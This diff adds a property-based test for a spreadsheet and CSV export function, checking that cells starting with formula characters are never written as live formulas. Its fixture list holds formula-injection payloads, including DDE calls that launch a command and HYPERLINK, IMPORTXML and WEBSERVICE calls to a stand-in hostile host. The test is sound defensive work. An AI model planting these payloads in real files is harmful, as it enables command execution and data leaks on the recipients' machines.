@@ -1,3 +1,4 @@
+import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { readXlsx } from 'hucre/xlsx'
 import type { SheetRow } from './cell.ts'
@@ -44,5 +45,29 @@ describe('a written delimited text', () => {
   test('has no cell that a spreadsheet would compute, and leaves numbers alone', async () => {
     const text = writeCsvTable(['Nama', 'Nilai'], [['=1+1', -5], ['@x', null], ['Siti; Aminah', 2]]).toString('utf8')
     expect(text).toBe('\ufeffNama;Nilai\r\n\'=1+1;-5\r\n\'@x;\r\n"Siti; Aminah";2\r\n')
+  })
+})
+
+/** How formulas begin in the spreadsheets of this world, also in full-width signs and behind what hides. */
+const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\t=', ' =', '"=', "'=", ';=', '|', '%']
+const calls = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://jahat.example","klik")', 'IMPORTXML("http://jahat.example","//a")', 'WEBSERVICE("http://jahat.example")', 'SUM(A1:A9)', 'DDE("cmd";"/C calc";"x")']
+
+describe('what is written', () => {
+  test('is never a live formula: 500 ways to begin one, in both kinds of file, and they come back as they were', async () => {
+    const payloads = fc.sample(fc.tuple(fc.constantFrom(...starts), fc.constantFrom(...calls), fc.string({ maxLength: 12 })).map((parts) => parts.join('')), { numRuns: 500, seed: 20261126 })
+    const rows = payloads.map((payload) => [payload, '0510051203900001', -2])
+    const columns = [{ header: 'Ket', kind: 'text' }, { header: 'NIK', kind: 'text' }, { header: 'Nilai', kind: 'number' }] as const
+    const workbook = await read(await writeXlsxTable({ name: 'Data', columns, rows }))
+    expect(workbook).toHaveLength(501)
+    // A cell that is a formula would come back as `{ formula: true }`.
+    for (const row of workbook) expect(row.cells.every((cell) => cell === null || typeof cell !== 'object')).toBe(true)
+    expect(workbook.slice(1).map((row) => row.cells.slice(1))).toEqual(rows.map(([, nik, value]) => [nik, value]))
+
+    const lines = await read(writeCsvTable(['Ket', 'NIK', 'Nilai'], rows))
+    expect(lines).toHaveLength(501)
+    for (const line of lines.slice(1)) {
+      expect(String(line.cells[0])).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
+      expect(line.cells.slice(1)).toEqual(['0510051203900001', '-2'])
+    }
   })
 })
